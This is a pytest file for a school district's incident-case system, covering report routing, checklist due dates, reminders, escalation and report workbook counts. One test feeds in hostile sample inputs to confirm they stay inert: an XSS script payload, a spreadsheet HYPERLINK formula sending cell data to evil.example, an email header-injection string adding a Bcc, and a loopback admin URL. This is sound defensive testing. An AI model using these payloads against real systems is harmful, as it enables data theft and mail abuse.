"""Incident cases (issue 16) on the store: routing, the checklist's dates, reminders and escalation on an injected
clock, hostile reports kept inert, and the workbook's Incidents sheet against an independent SQL count.

Form responses here are built as the Forms API returns them; tests/test_incidents_e2e.py sends them through the
emulator's form instead.
"""

from __future__ import annotations

import email
import email.policy
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from sqlalchemy import select, text

from compliance.deliveries import queue_deliveries
from compliance.incidents import IncidentForm, form_items, plan_incident_follow_up, record_step
from compliance.incidents.form import NO, QUESTION_NAMES, YES, clean_answer, site_options
from compliance.incidents.intake import ingest_reports
from compliance.mailings import MessageFactory
from compliance.models import Delivery, IncidentAction, IncidentCase, IncidentStep, Quarantine
from compliance.report.data import collect_report_data
from compliance.report.incidents_sheet import BY_CATEGORY_HEADER
from compliance.report.workbook import write_workbook
from compliance.settings import load_settings
from compliance.store import Store
from compliance.vocabulary import CaseCategory, CaseState, CaseStep, IncidentDeliveryKind

NOW = datetime(2026, 12, 1, 17, 0, tzinfo=UTC)  # 09:00 in the district
FORM = IncidentForm("1incidentForm", "https://docs.google.com/forms/d/e/x/viewform", {n: n for n in QUESTION_NAMES})
SENDER = "policy-mail-1@standard-sd.org"


@pytest.fixture
def settings():  # type: ignore[no-untyped-def]
    return load_settings()  # data/district.toml: its [incidents] table is the district's routing


def response(rid: str, at: datetime = NOW, **answers: str) -> dict[str, Any]:
    """A FormResponse as forms.responses.list returns it."""
    values = {"role": "Parent or guardian", "site": "Lincoln Elementary School", "against_admin": NO,
              "what": "A post about the school.", **answers}
    stamp = at.strftime("%Y-%m-%dT%H:%M:%S.%fZ")
    return {
        "responseId": rid,
        "createTime": stamp,
        "lastSubmittedTime": stamp,
        "answers": {k: {"questionId": k, "textAnswers": {"answers": [{"value": v}]}} for k, v in values.items()},
    }


def category(c: CaseCategory) -> str:
    return c.label


def _case(session, rid: str) -> IncidentCase:  # type: ignore[no-untyped-def]
    return session.scalar(select(IncidentCase).where(IncidentCase.response_id == rid))


def test_form_has_no_file_upload_and_offers_every_category_and_site(settings) -> None:  # type: ignore[no-untyped-def]
    items = form_items(settings)
    assert len(items) == len(QUESTION_NAMES)
    kinds = {next(k for k in i["questionItem"]["question"] if k.endswith("Question")) for i in items}
    assert kinds == {"textQuestion", "choiceQuestion"}
    choices = [i["questionItem"]["question"].get("choiceQuestion", {}) for i in items]
    options = {o["value"] for choice in choices for o in choice.get("options", [])}
    assert {c.label for c in CaseCategory} <= options
    assert set(site_options(settings)) <= options


def test_each_category_goes_to_its_owner_and_agency(db_url: str, settings) -> None:  # type: ignore[no-untyped-def]
    store = Store(db_url)
    reports = [
        response("r-threat", category=category(CaseCategory.THREAT)),
        response("r-images", category=category(CaseCategory.IMAGES_OF_MINORS), site="Washington Middle School"),
        response("r-abuse", category=category(CaseCategory.SUSPECTED_ABUSE)),
        response("r-harass", category=category(CaseCategory.HARASSMENT), url="https://social.example/p/1"),
        response("r-misconduct", category=category(CaseCategory.MISCONDUCT)),
        response("r-other", category=category(CaseCategory.OTHER), site="Not sure, or more than one site"),
        response("r-admin", category=category(CaseCategory.MISCONDUCT), against_admin=YES),
        response("r-named", category=category(CaseCategory.HARASSMENT), against_admin=YES,
                 site="Roosevelt Elementary School", administrator="HR.Director@standard-sd.org"),
        response("r-junk", category="Not a choice", site="Atlantis High"),
    ]
    with store.session() as s:
        counts = ingest_reports(s, FORM, reports, settings, NOW)
        assert counts.opened == len(reports) and counts.already_open == 0
    with store.session() as s:
        got = {rid: _case(s, rid) for rid in (r["responseId"] for r in reports)}
        assert got["r-threat"].agency == "Kern County Sheriff's Office"
        assert got["r-images"].agency == "County, state and federal law enforcement"
        assert got["r-images"].owner == "principal.washington@standard-sd.org"
        assert got["r-abuse"].agency == "Child Protective Services"
        for rid in ("r-harass", "r-misconduct"):
            assert got[rid].agency is None and got[rid].owner == "principal.lincoln@standard-sd.org"
        assert got["r-other"].owner == "chief-of-staff@standard-sd.org"  # site unknown: the designee
        # A complaint against the site's administrator goes to that administrator's supervisor (AR 1114 IV).
        assert got["r-admin"].owner == "asst.superintendent@standard-sd.org"
        assert got["r-admin"].administrator == "principal.lincoln@standard-sd.org"
        assert got["r-named"].owner == "superintendent@standard-sd.org"  # the named administrator's line
        assert got["r-junk"].category == CaseCategory.OTHER and got["r-junk"].site_id is None
        assert len(got["r-junk"].input_notes) == 2
        steps = {rid: {st.step for st in s.scalars(select(IncidentStep).where(IncidentStep.case_id == c.id))}
                 for rid, c in got.items()}
        assert CaseStep.AGENCY_REPORTED in steps["r-threat"] and CaseStep.AGENCY_REPORTED not in steps["r-harass"]
        assert CaseStep.EVIDENCE_RECORDED in steps["r-images"] and CaseStep.REMOVAL_REQUESTED not in steps["r-images"]
        assert CaseStep.REMOVAL_REQUESTED in steps["r-harass"]  # a posting with an address to take down
        assert CaseStep.REMOVAL_REQUESTED not in steps["r-misconduct"]
        assert {CaseStep.RETALIATION_CHECK_30, CaseStep.RETALIATION_CHECK_90} <= steps["r-misconduct"]
        mail = {(d.kind, d.recipient, d.context["vars"]["case_ref"]) for d in s.scalars(select(Delivery))}
        by_case: dict[str, set[tuple[str, str]]] = {}
        for kind, recipient, ref in mail:
            by_case.setdefault(ref, set()).add((kind, recipient))
        for c in got.values():
            kinds = by_case[c.case_ref]
            assert (IncidentDeliveryKind.CASE_OPENED, c.owner) in kinds  # the owner gets the case file at once
            pages = {r for k, r in kinds if k == IncidentDeliveryKind.AGENCY_PAGE}
            urgent = CaseCategory(c.category).urgent
            assert pages == ({"superintendent@standard-sd.org", "chief-of-staff@standard-sd.org"} if urgent else set())
        # Only the owner's message holds the report's text.
        for d in s.scalars(select(Delivery)):
            assert ("description" in d.context["vars"]) == (d.kind == IncidentDeliveryKind.CASE_OPENED)
        quarantined = s.scalars(select(Quarantine).where(Quarantine.job == "incident")).all()
        assert {q.field for q in quarantined} == {"category", "site"} and all(q.raw_value is None for q in quarantined)
        mail_rows = s.query(Delivery).count()
    # Re-running the sync over the same responses adds nothing.
    with store.session() as s:
        again = ingest_reports(s, FORM, reports, settings, NOW + timedelta(minutes=15))
        assert (again.opened, again.already_open, again.queued) == (0, len(reports), 0)
        assert s.query(IncidentCase).count() == len(reports) and s.query(Delivery).count() == mail_rows
        assert s.query(Quarantine).count() == len(quarantined)


def test_due_dates_end_the_district_day_and_are_stored_in_utc(sqlite_url: str, settings) -> None:  # type: ignore[no-untyped-def]
    store = Store(sqlite_url)
    late = datetime(2026, 12, 2, 6, 30, tzinfo=UTC)  # 22:30 on Dec 1 in the district, already Dec 2 in UTC
    with store.session() as s:
        ingest_reports(s, FORM, [response("r1", at=late, category=category(CaseCategory.HARASSMENT))], settings, late)
    with store.session() as s:
        due = {st.step: st.due_at for st in s.scalars(select(IncidentStep))}
    assert all(d.tzinfo is not None and d.utcoffset() == timedelta(0) for d in due.values())
    local = {k: v.astimezone(settings.tz) for k, v in due.items()}
    assert (local[CaseStep.SAFETY_SECURED].date().isoformat(), local[CaseStep.SAFETY_SECURED].strftime("%H:%M")) == (
        "2026-12-01", "23:59")
    assert local[CaseStep.RETALIATION_CHECK_30].date().isoformat() == "2026-12-31"
    assert local[CaseStep.RETALIATION_CHECK_90].date().isoformat() == "2027-03-01"


def _queue_follow_up(store: Store, settings, now: datetime) -> tuple[int, int]:  # type: ignore[no-untyped-def]
    with store.session() as s:
        planned = plan_incident_follow_up(s, settings, now)
        return queue_deliveries(s, planned.reminders), queue_deliveries(s, planned.escalations)


def test_reminders_and_escalation_follow_their_cadence(sqlite_url: str, settings) -> None:  # type: ignore[no-untyped-def]
    store = Store(sqlite_url)
    with store.session() as s:
        ingest_reports(s, FORM, [response("r1", category=category(CaseCategory.MISCONDUCT))], settings, NOW)
        ref = _case(s, "r1").case_ref
    day = timedelta(days=1)
    assert _queue_follow_up(store, settings, NOW) == (0, 0)  # nothing is due yet
    # Safety is due at the end of day 0: reminded on day 1, not again until reminder_every_days (3) later.
    assert _queue_follow_up(store, settings, NOW + day) == (1, 0)
    assert _queue_follow_up(store, settings, NOW + day) == (0, 0)
    assert _queue_follow_up(store, settings, NOW + 3 * day) == (0, 0)
    assert _queue_follow_up(store, settings, NOW + 4 * day) == (1, 0)
    # No action for stale_days (10): the designee hears of it once per period.
    assert _queue_follow_up(store, settings, NOW + 9 * day)[1] == 0
    assert _queue_follow_up(store, settings, NOW + 10 * day)[1] == 1
    assert _queue_follow_up(store, settings, NOW + 11 * day)[1] == 0
    with store.session() as s:
        escalation = s.scalar(select(Delivery).where(Delivery.kind == IncidentDeliveryKind.STALE_ESCALATION))
        assert escalation.recipient == "chief-of-staff@standard-sd.org"
        assert "description" not in escalation.context["vars"]
    # Recording a step is an action: the staleness clock starts again from it.
    with store.session() as s:
        case = record_step(s, ref, CaseStep.SAFETY_SECURED, by="principal.lincoln@standard-sd.org",
                           at=NOW + 11 * day, note="office locked")
        assert case.status == CaseState.IN_PROGRESS
        assert s.query(IncidentAction).filter_by(case_id=case.id, action="step:safety_secured").count() == 1
    assert _queue_follow_up(store, settings, NOW + 20 * day)[1] == 0
    assert _queue_follow_up(store, settings, NOW + 21 * day)[1] == 1
    with store.session() as s:
        for st in s.scalars(select(IncidentStep)):
            record_step(s, ref, CaseStep(st.step), by="principal.lincoln@standard-sd.org", at=NOW + 22 * day)
        assert _case(s, "r1").status == CaseState.CLOSED
    assert _queue_follow_up(store, settings, NOW + 40 * day) == (0, 0)  # a closed case sends nothing


HOSTILE_SCRIPT = '<script>alert("x")</script><img src=x onerror=alert(1)>'
HOSTILE_FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HOSTILE_HEADER = "Bob\r\nBcc: victim@evil.example\r\nSubject: pwned"


def test_hostile_reports_are_stored_bounded_and_stay_inert(tmp_path: Path, settings) -> None:  # type: ignore[no-untyped-def]
    store = Store(f"sqlite:///{tmp_path / 'store.db'}")
    huge = "A" * 1_000_000
    reports = [
        response("h-script", category=category(CaseCategory.HARASSMENT), what=HOSTILE_SCRIPT),
        response("h-formula", category=category(CaseCategory.MISCONDUCT), what=HOSTILE_FORMULA,
                 involved=HOSTILE_FORMULA),
        response("h-header", category=category(CaseCategory.THREAT), contact=HOSTILE_HEADER, what=HOSTILE_HEADER),
        response("h-huge", category=category(CaseCategory.OTHER), what=huge),
        response("h-private", category=category(CaseCategory.HARASSMENT), url="http://127.0.0.1:9/admin?x=1"),
    ]
    with store.session() as s:
        ingest_reports(s, FORM, reports, settings, NOW)
    with store.session() as s:
        cases = {c.response_id: c for c in s.scalars(select(IncidentCase))}
        limit = settings.incidents.max_answer_chars
        assert len(cases["h-huge"].description) <= limit + 10
        assert any("cut to" in n for n in cases["h-huge"].input_notes)
        assert s.scalar(select(Quarantine.id).where(Quarantine.sheet == "h-huge")) is not None
        assert "\r" not in cases["h-header"].description and "\r" not in (cases["h-header"].reporter_contact or "")
        assert cases["h-private"].posting_url == "http://127.0.0.1:9/admin?x=1"  # text, as typed
        factory = MessageFactory(s, settings, NOW)
        raws = {}
        for d in s.scalars(select(Delivery).where(Delivery.kind == IncidentDeliveryKind.CASE_OPENED)):
            raws[d.context["vars"]["case_ref"]] = factory(d, SENDER)[0]
    by_rid = {rid: raws[c.case_ref] for rid, c in cases.items()}
    for rid, raw in by_rid.items():
        message = email.message_from_bytes(raw, policy=email.policy.default)
        assert message["Bcc"] is None and "evil.example" not in str(message["To"]), rid
        assert "pwned" not in str(message["Subject"]), rid
        html = message.get_body(("html",)).get_content()
        assert "<script>" not in html and "onerror=alert(1)>" not in html, rid
        assert '<a href="http://127.0.0.1' not in html, rid  # the address is shown, never linked
    script_html = email.message_from_bytes(by_rid["h-script"], policy=email.policy.default).get_body(("html",))
    assert "&lt;script&gt;" in script_html.get_content()
    assert len(by_rid["h-huge"]) < 200_000
    # The workbook carries case references and counts, never a report's text.
    with store.session() as s:
        data = collect_report_data(s, NOW, settings)
    path = write_workbook(data, tmp_path / "report.xlsx", district_name="SESD", generated_at=NOW)
    wb = openpyxl.load_workbook(path)
    texts = [str(c.value) for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [t for t in texts if "HYPERLINK" in t or "<script" in t or "127.0.0.1" in t or "Bcc" in t]


def test_clean_answer_removes_embedded_images_and_controls() -> None:
    pasted = "look: data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAA== end\x00\x1b[31m"
    cleaned, notes = clean_answer(pasted, 1000, "what")
    assert cleaned == "look: [embedded image removed] end[31m"
    assert notes == ["what: 1 embedded image(s) removed, never stored"]
    assert clean_answer("   ", 1000, "what") == (None, [])


def test_incidents_sheet_equals_an_independent_sql_count(db_url: str, tmp_path: Path, settings) -> None:  # type: ignore[no-untyped-def]
    store = Store(db_url)
    cats = [CaseCategory.THREAT, CaseCategory.HARASSMENT, CaseCategory.HARASSMENT, CaseCategory.OTHER,
            CaseCategory.IMAGES_OF_MINORS, CaseCategory.MISCONDUCT, CaseCategory.MISCONDUCT]
    with store.session() as s:
        ingest_reports(s, FORM, [response(f"r{i}", at=NOW - timedelta(days=3 * i), category=category(c))
                                 for i, c in enumerate(cats)], settings, NOW - timedelta(days=20))
        refs = [c.case_ref for c in s.scalars(select(IncidentCase).order_by(IncidentCase.response_id))]
        record_step(s, refs[1], CaseStep.SAFETY_SECURED, by="a@standard-sd.org", at=NOW - timedelta(days=1))
        for st in s.scalars(select(IncidentStep).where(IncidentStep.case_id == _case(s, "r2").id)):
            record_step(s, refs[2], CaseStep(st.step), by="a@standard-sd.org", at=NOW - timedelta(days=1))
    with store.session() as s:
        data = collect_report_data(s, NOW, settings)
        expected = {
            (category_, status): n
            for category_, status, n in s.execute(
                text("select category, status, count(*) from incident_cases group by category, status")
            )
        }
        overdue_cases = s.execute(text(
            "select distinct c.category, c.id from incident_cases c join incident_steps st on st.case_id = c.id "
            "where st.done_at is null and c.status <> 'closed'"
        )).all()
        raw_due = s.execute(text(
            "select c.category, st.due_at from incident_cases c join incident_steps st on st.case_id = c.id "
            "where st.done_at is null"
        )).all()
    path = write_workbook(data, tmp_path / "report.xlsx", district_name="SESD", generated_at=NOW)
    ws = openpyxl.load_workbook(path)["Incidents"]
    rows = [[c.value for c in row] for row in ws.iter_rows()]
    start = rows.index([*BY_CATEGORY_HEADER, None, None]) + 1
    sheet = {r[0]: r[1:6] for r in rows[start : start + len(CaseCategory)]}
    assert sum(expected.values()) == len(cats) == len(data.incidents.cases)
    for c in CaseCategory:
        want = [expected.get((c.value, st.value), 0) for st in CaseState]
        assert sheet[c.label][:4] == [*want, sum(want)], c
    # Overdue: an unfinished step whose due date is past (due dates read back from the raw column, in Python).
    def aware(v: Any) -> datetime:
        v = datetime.fromisoformat(v) if isinstance(v, str) else v
        return v.replace(tzinfo=UTC) if v.tzinfo is None else v
    assert overdue_cases  # the oldest cases are past their first steps
    overdue_by_cat: dict[str, int] = {}
    with store.session() as s:
        for case in s.scalars(select(IncidentCase).where(IncidentCase.status != "closed")):
            dues = [aware(d) for (d,) in s.execute(
                text("select due_at from incident_steps where case_id = :c and done_at is null"), {"c": case.id})]
            if any(d < NOW for d in dues):
                overdue_by_cat[case.category] = overdue_by_cat.get(case.category, 0) + 1
    for c in CaseCategory:
        assert sheet[c.label][4] == overdue_by_cat.get(c.value, 0), c
    assert sum(1 for _, d in raw_due if aware(d) < NOW) == sum(data.incidents.overdue_by_step.values())
    assert data.summary["cases_open"] == len(cats) - 1
    assert data.summary["cases_overdue"] == sum(overdue_by_cat.values())
    summary = [[c.value for c in row] for row in openpyxl.load_workbook(path)["Summary"].iter_rows()]
    assert any(r[0] == "Incident cases not closed" and r[1] == len(cats) - 1 for r in summary)
